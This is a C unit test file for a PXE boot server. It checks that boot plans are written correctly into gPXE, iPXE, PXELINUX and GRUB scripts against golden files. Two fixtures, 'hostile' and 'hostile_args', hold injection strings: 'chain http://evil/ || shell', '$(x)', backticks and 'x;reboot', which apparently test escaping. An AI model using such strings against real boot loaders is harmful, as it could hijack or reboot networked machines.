/* A plan in each loader's language, compared to the byte with the files in golden/. Those of the outside contract
 * (centos-5.5, memdisk.pxelinux) are copied from it; acceptance compares them too. */
#include "dialect.h"

#include <stdio.h>

#include "dialect_text.h"
#include "suite.h"

#define S(text)                                                                                                        \
    { text, sizeof(text) - 1 }
#define URL "http://pxe-server/boot/"

static const struct pxed_plan centos = {
    .how = PXED_HOW_LINUX,
    .kernel = S("os/centos-5.5-i386/pxeboot/vmlinuz"),
    .args = S("ksdevice=link ks=" URL "hosts/linux-ks/08-00-27-4d-4d-aa.txt"),
    .initrds = {{S("os/centos-5.5-i386/pxeboot/initrd.img"), {0}}},
    .n_initrds = 1,
};
static const struct pxed_plan debian = {
    .how = PXED_HOW_LINUX,
    .kernel = S("os/debian-12/linux"),
    .args = S("auto=true priority=critical interface=auto hostname=web01 domain=example.org "
              "url=" URL "hosts/52-54-00-aa-00-30/preseed.cfg"),
    .initrds = {{S("os/debian-12/initrd.gz"), {0}}},
    .n_initrds = 1,
};
static const struct pxed_plan shimmed = {
    .how = PXED_HOW_LINUX,
    .kernel = S("os/rocky-9/images/pxeboot/vmlinuz"),
    .args = S("quiet"),
    .initrds = {{S("os/rocky-9/images/pxeboot/initrd.img"), {0}}},
    .n_initrds = 1,
    .shim = S("secure/rocky-9/shimx64.efi"),
};
static const struct pxed_plan bare = {.how = PXED_HOW_LINUX, .kernel = S("os/x-1/linux")};
static const struct pxed_plan many = {
    .how = PXED_HOW_LINUX,
    .kernel = S("os/x-1/linux"),
    .args = S("quiet"),
    .initrds = {{S("os/x-1/a.img"), {0}}, {S("os/x-1/b.img"), S("extra.cpio")}, {S("os/x-1/c.img"), {0}}},
    .n_initrds = 3,
};
static const struct pxed_plan packed = {
    .how = PXED_HOW_LINUX,
    .kernel = S("os/p-1/linux26"),
    .args = S("rw quiet"),
    .initrds = {{S("os/p-1/initrd.img"), {0}}, {S("os/p-1/p.iso"), S("/proxmox.iso")}},
    .n_initrds = 2,
};
static const struct pxed_plan own_disk = {
    .how = PXED_HOW_LOCAL,
    .reason = PXED_WHY_NOT_ARMED,
    .note = S("pxed pxe-server: web01 (52:54:00:aa:00:30) boots its disk\n"
              "NOT_ARMED: the host has no right to be installed; it boots its disk\n"
              "to do: pxed arm web01"),
};
static const struct pxed_plan read_disk = {
    .how = PXED_HOW_LOCAL,
    .reason = PXED_WHY_UNKNOWN_MACHINE,
    .note = S("pxed pxe-server: unknown machine (52:54:00:aa:00:31) boots its disk\n"
              "UNKNOWN_MACHINE: no line of the host file has this MAC\n"
              "to install it, a line of the host file: 52:54:00:aa:00:31, OS-ID, name=NAME"),
    .tells_serial = true,
    .wait = 10,
};
static const struct pxed_plan silent_disk = {.how = PXED_HOW_LOCAL};
static const struct pxed_plan windows = {
    .how = PXED_HOW_MEMDISK,
    .kernel = S("os/memdisk"),
    .args = S("iso"),
    .initrds = {{S("os/w2k8_pe_x64.iso"), {0}}},
    .n_initrds = 1,
};
static const struct pxed_plan handover = {.how = PXED_HOW_PXELINUX};
static const struct pxed_plan wimboot = {
    .how = PXED_HOW_WIMBOOT,
    .kernel = S("os/wimboot"),
    .args = S("console=ttyS0,115200n8 gui quietly"), /* a kernel's words would stop it */
    .initrds = {{S("os/windows-2022-x64/boot/bcd"), S("BCD")},
                {S("os/windows-2022-x64/boot/boot.sdi"), {0}},
                {S("os/windows-2022-x64/sources/boot.wim"), {0}},
                {S("hosts/08-00-27-b2-40-3e/startnet.cmd"), S("startnet.cmd")},
                {S("s/00112233445566778899aabbccddeeff/hosts/08-00-27-b2-40-3e/unattend.xml"), S("unattend.xml")}},
    .n_initrds = 5,
};
static const struct pxed_plan efi = {.how = PXED_HOW_EFI, .kernel = S("os/openbsd-7.4/BOOTX64.EFI"), .args = S("-v")};
static const struct pxed_plan modules = {
    .how = PXED_HOW_MULTIBOOT,
    .kernel = S("os/solaris-11/boot/platform/i86pc/kernel/unix"),
    .args = S("-B install=1"),
    .initrds = {{S("os/solaris-11/boot/x86.microroot"), {0}}},
    .n_initrds = 1,
};
static const struct pxed_plan modules_with_words = {
    .how = PXED_HOW_MULTIBOOT,
    .kernel = S("os/smartos-1/platform/i86pc/kernel/amd64/unix"),
    .args = S("-B console=ttya,smartos=true"),
    .initrds = {{S("os/smartos-1/platform/i86pc/amd64/boot_archive"), S("type=rootfs name=ramdisk")},
                {S("os/smartos-1/hash"), S("type=hash name=ramdisk")}},
    .n_initrds = 2,
};
static const struct pxed_plan second = {
    .how = PXED_HOW_MULTIBOOT2,
    .kernel = S("os/x-1/unix"),
    .args = S("-B a=http://pxe-server/x?"),
    .initrds = {{S("os/x-1/archive"), {0}}},
    .n_initrds = 1,
};
static const struct pxed_plan alone = {.how = PXED_HOW_MULTIBOOT, .kernel = S("os/x-1/core.elf")};
/* The image's files come from a mirror, the answers from here. */
#define MIRROR S("http://mirror.example.org/pxe/")
static const struct pxed_plan mirrored = {
    .how = PXED_HOW_LINUX,
    .kernel = S("os/debian-12/linux"),
    .args = S("url=" URL "s/00112233445566778899aabbccddeeff/hosts/52-54-00-aa-00-30/preseed.cfg"),
    .initrds = {{S("os/debian-12/initrd.gz"), {0}}, {S("os/debian-12/more.gz"), {0}}},
    .n_initrds = 2,
    .images = MIRROR,
    .elsewhere = 7,
};
/* Its last initrd uses up the right: it stays here. */
static const struct pxed_plan mirrored_but_last = {
    .how = PXED_HOW_LINUX,
    .kernel = S("os/x-1/linux"),
    .initrds = {{S("os/x-1/a.img"), {0}}, {S("os/x-1/b.img"), {0}}},
    .n_initrds = 2,
    .images = S("http://10.9.9.9/"),
    .elsewhere = 3,
};
static const struct pxed_plan mirrored_on_a_port = {
    .how = PXED_HOW_LINUX,
    .kernel = S("os/x-1/linux"),
    .images = S("http://10.9.9.9:8080/boot/"),
    .elsewhere = 1,
};
static const struct pxed_plan mirrored_wimboot = {
    .how = PXED_HOW_WIMBOOT,
    .kernel = S("os/wimboot"),
    .initrds = {{S("os/windows-2022-x64/sources/boot.wim"), {0}},
                {S("s/00112233445566778899aabbccddeeff/hosts/08-00-27-b2-40-3e/unattend.xml"), S("unattend.xml")}},
    .n_initrds = 2,
    .images = MIRROR,
    .elsewhere = 2,
};
static const struct pxed_plan mirrored_modules = {
    .how = PXED_HOW_MULTIBOOT,
    .kernel = S("os/solaris-11/unix"),
    .args = S("-B install=1"),
    .initrds = {{S("os/solaris-11/x86.microroot"), S("type=rootfs")}},
    .n_initrds = 1,
    .images = MIRROR,
    .elsewhere = 3,
};
static const struct pxed_plan hostile = {
    .how = PXED_HOW_LOCAL,
    .note = S("a\nexit\r\nchain http://evil/ || shell ${net0/mac} \"q\" 'r' \\ # ; & $(x) `y` \x7f\xc3\xa9 \t end"),
};
static const struct pxed_plan hostile_args = {
    .how = PXED_HOW_LINUX,
    .kernel = S("os/x-1/linux"),
    .args = S("a='b;c' ${root} $(x) `y` d=\"e f\" x;reboot & | > < \\ * ? # g=h%20i {j,k} ~"),
};

static const struct {
    const char *golden;
    enum pxed_loader loader;
    enum pxed_firmware firmware;
    const struct pxed_plan *plan;
} rows[] = {
    {"centos-5.5.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &centos},
    {"centos-5.5.gpxe", PXED_LOADER_NONE, PXED_FW_BIOS, &centos}, /* an agent nobody knows */
    {"centos-5.5.gpxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &centos},
    {"centos-5.5.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &centos},
    {"centos-5.5.ipxe", PXED_LOADER_IPXE, PXED_FW_HTTP_X64, &centos},
    {"centos-5.5.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &centos},
    {"centos-5.5.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &centos},
    {"debian-12.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &debian},
    {"debian-12.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_ARM64, &debian},
    {"debian-12.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &debian},
    {"debian-12.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &debian},
    {"bare.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &bare},
    {"bare.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &bare},
    {"bare.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &bare},
    {"many-initrds.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &many},
    {"many-initrds.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &many},
    {"many-initrds.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &many},
    {"many-initrds.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &many},
    {"shim.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &shimmed},
    {"shim.gpxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &shimmed},
    {"shim.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &shimmed},
    {"local.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &own_disk},
    {"local.gpxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &own_disk},
    {"local-efi.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &own_disk},
    {"local-efi.ipxe", PXED_LOADER_IPXE, PXED_FW_HTTP_ARM64, &own_disk},
    {"local.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &own_disk},
    {"local.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &own_disk},
    {"local.grub", PXED_LOADER_GRUB, PXED_FW_BIOS, &own_disk},
    {"silent.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &silent_disk},
    {"silent.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &silent_disk},
    {"silent.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &silent_disk},
    {"memdisk.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &windows},
    {"memdisk.ipxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &windows},
    {"handover.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &handover},
    {"handover.gpxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &handover},
    {"wimboot.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &wimboot},
    {"wimboot.ipxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &wimboot},
    {"efi.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &efi},
    {"efi.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &efi},
    {"multiboot.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &modules},
    {"multiboot.ipxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &modules},
    {"multiboot.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &modules},
    {"multiboot.grub", PXED_LOADER_GRUB, PXED_FW_BIOS, &modules},
    {"multiboot.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &modules},
    {"modules.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &modules_with_words},
    {"modules.ipxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &modules_with_words},
    {"modules.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &modules_with_words},
    {"modules.grub", PXED_LOADER_GRUB, PXED_FW_BIOS, &modules_with_words},
    {"modules.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &modules_with_words},
    {"multiboot-alone.ipxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &alone},
    {"multiboot-alone.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &alone},
    {"multiboot-alone.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &alone},
    {"multiboot-alone.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &alone},
    {"multiboot2.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &second},
    {"debian-12.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &debian},
    {"bare.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &bare},
    {"local.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &own_disk},
    {"stranger.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &read_disk},
    {"stranger.gpxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &read_disk},
    {"stranger.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &read_disk},
    {"stranger.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &read_disk},
    {"stranger.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &read_disk},
    {"silent.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &silent_disk},
    {"hostile-note.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &hostile},
    {"hostile-note.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &hostile},
    {"hostile-note.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &hostile},
    {"hostile-note.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &hostile},
    {"hostile-note.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &hostile},
    {"packed.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &packed},
    {"packed.gpxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &packed},
    {"packed.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &packed},
    {"hostile-args.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &hostile_args},
    {"mirror.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &mirrored},
    {"mirror.gpxe", PXED_LOADER_IPXE, PXED_FW_BIOS, &mirrored},
    {"mirror.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &mirrored},
    {"mirror.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &mirrored},
    {"mirror.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &mirrored},
    {"mirror-but-last.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &mirrored_but_last},
    {"mirror-but-last.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &mirrored_but_last},
    {"mirror-but-last.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &mirrored_but_last},
    {"mirror-port.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &mirrored_on_a_port},
    {"bare.grub", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &mirrored_on_a_port},    /* no port in GRUB's names of servers */
    {"bare.pxegrub", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &mirrored_on_a_port}, /* nor anything but TFTP */
    {"mirror-wimboot.ipxe", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &mirrored_wimboot},
    {"mirror-modules.gpxe", PXED_LOADER_GPXE, PXED_FW_BIOS, &mirrored_modules},
    {"mirror-modules.pxelinux", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &mirrored_modules},
    {"mirror-modules.grub", PXED_LOADER_GRUB, PXED_FW_BIOS, &mirrored_modules},
};

static struct pxed_slice read_golden(const char *name, char *text, size_t size) {
    char path[512];
    snprintf(path, sizeof(path), "%s/%s", PXED_GOLDEN, name);
    FILE *f = fopen(path, "re");
    ck_assert_msg(f != NULL, "%s", path);
    size_t n = fread(text, 1, size, f);
    fclose(f);
    return pxed_slice(text, n);
}

START_TEST(golden) {
    char text[4096], want_text[4096];
    struct pxed_buf b = PXED_BUF(text), nothing = {NULL, 0, 0};
    struct pxed_slice base = PXED_SLICE(URL), want = read_golden(rows[_i].golden, want_text, sizeof(want_text));
    ck_assert_int_eq(dialect_write(rows[_i].loader, rows[_i].firmware, rows[_i].plan, base, &b), PXED_WHY_OK);
    struct pxed_slice got = pxed_buf_slice(&b);
    ck_assert_msg(pxed_slice_eq(got, want), "%s for %s:\n%.*s", rows[_i].golden, pxed_firmware_names[rows[_i].firmware],
                  PXED_S(got));
    ck_assert_msg(memchr(got.ptr, '\r', got.len) == NULL && got.ptr[got.len - 1] == '\n', "line ends");
    dialect_write(rows[_i].loader, rows[_i].firmware, rows[_i].plan, base, &nothing);
    ck_assert_uint_eq(nothing.len, b.len); /* asking the size is the same code */
}
END_TEST

static const struct {
    const char *name;
    enum pxed_loader loader;
    enum pxed_firmware firmware;
    const struct pxed_plan *plan;
} refused[] = {
    {"gPXE cannot run memdisk", PXED_LOADER_GPXE, PXED_FW_BIOS, &windows},
    {"gPXE knows no EFI", PXED_LOADER_GPXE, PXED_FW_BIOS, &efi},
    {"memdisk lives in INT 13h", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &windows},
    {"memdisk lives in INT 13h, syslinux.efi", PXED_LOADER_PXELINUX, PXED_FW_EFI_X64, &windows},
    {"PXELINUX needs the BIOS", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &handover},
    {"PXELINUX is there already", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &handover},
    {"GRUB does not load PXELINUX", PXED_LOADER_GRUB, PXED_FW_BIOS, &handover},
    {"gPXE has no names for wimboot", PXED_LOADER_GPXE, PXED_FW_BIOS, &wimboot},
    {"PXELINUX and wimboot", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &wimboot},
    {"GRUB and wimboot", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &wimboot},
    {"mboot.c32 is for BIOS", PXED_LOADER_PXELINUX, PXED_FW_EFI_X64, &modules},
    {"iPXE has multiboot for BIOS only", PXED_LOADER_IPXE, PXED_FW_EFI_X64, &modules},
    {"iPXE has no Multiboot 2", PXED_LOADER_IPXE, PXED_FW_BIOS, &second},
    {"gPXE has no Multiboot 2", PXED_LOADER_GPXE, PXED_FW_BIOS, &second},
    {"PXELINUX has no Multiboot 2", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &second},
    {"GRUB 0.97 has no Multiboot 2", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &second},
    {"GRUB 0.97 takes one initrd", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &many},
    {"GRUB 0.97 is for BIOS", PXED_LOADER_PXEGRUB, PXED_FW_EFI_X64, &own_disk},
    {"GRUB 0.97 and memdisk", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &windows},
    {"PXELINUX starts no EFI program", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &efi},
    {"PXELINUX puts no file into an initramfs", PXED_LOADER_PXELINUX, PXED_FW_BIOS, &packed},
    {"GRUB's archive is one that new kernels refuse", PXED_LOADER_GRUB, PXED_FW_EFI_X64, &packed},
    {"nor does GRUB 0.97", PXED_LOADER_PXEGRUB, PXED_FW_BIOS, &packed},
    {"GRUB and memdisk", PXED_LOADER_GRUB, PXED_FW_BIOS, &windows},
};

START_TEST(no_dialect) {
    char text[1024];
    struct pxed_buf b = PXED_BUF(text);
    enum pxed_reason why =
        dialect_write(refused[_i].loader, refused[_i].firmware, refused[_i].plan, PXED_SLICE(URL), &b);
    ck_assert_msg(why == PXED_WHY_NO_DIALECT, "%s: %s", refused[_i].name, pxed_reason_name(why));
    ck_assert_msg(b.len == 0, "%s: wrote something", refused[_i].name);
}
END_TEST

static const struct {
    const char *agent;
    enum pxed_loader loader;
} agents[] = {
    {"gPXE/0.9.9", PXED_LOADER_GPXE},
    {"gPXE/1.0.1+", PXED_LOADER_GPXE},
    {"iPXE/1.0.0+git-20190125.36a4c85-5.1", PXED_LOADER_IPXE},
    {"iPXE/1.21.1 (g01024)", PXED_LOADER_IPXE},
    {"GRUB 2.06-13+deb12u1", PXED_LOADER_GRUB},
    {"GRUB/2.12", PXED_LOADER_GRUB},
    {"Syslinux/6.04", PXED_LOADER_PXELINUX},
    {"Wget/1.21.3", PXED_LOADER_GPXE},
    {"anaconda/5.5", PXED_LOADER_GPXE},
    {"ipxe", PXED_LOADER_GPXE},
    {"x iPXE/1.0", PXED_LOADER_GPXE},
    {"", PXED_LOADER_GPXE},
};

START_TEST(user_agents) {
    ck_assert_msg(dialect_of_agent(pxed_slice_of(agents[_i].agent)) == agents[_i].loader, "%s", agents[_i].agent);
    ck_assert_int_eq(dialect_of_agent(PXED_NO_SLICE), PXED_LOADER_GPXE);
}
END_TEST

START_TEST(basenames) {
    ck_assert(pxed_slice_is(dialect_basename(PXED_SLICE("a/b/c.img")), "c.img"));
    ck_assert(pxed_slice_is(dialect_basename(PXED_SLICE("c.img")), "c.img"));
    ck_assert(pxed_slice_is(dialect_basename(PXED_SLICE("a/")), ""));
    ck_assert(pxed_slice_is(dialect_basename(PXED_SLICE("")), ""));
}
END_TEST

int main(void) {
    Suite *s = suite_create("dialect");
    TCase *t = tcase_create("dialect");
    tcase_add_loop_test(t, golden, 0, COUNT(rows));
    tcase_add_loop_test(t, no_dialect, 0, COUNT(refused));
    tcase_add_loop_test(t, user_agents, 0, COUNT(agents));
    tcase_add_test(t, basenames);
    suite_add_tcase(s, t);
    return suite_run(s);
}
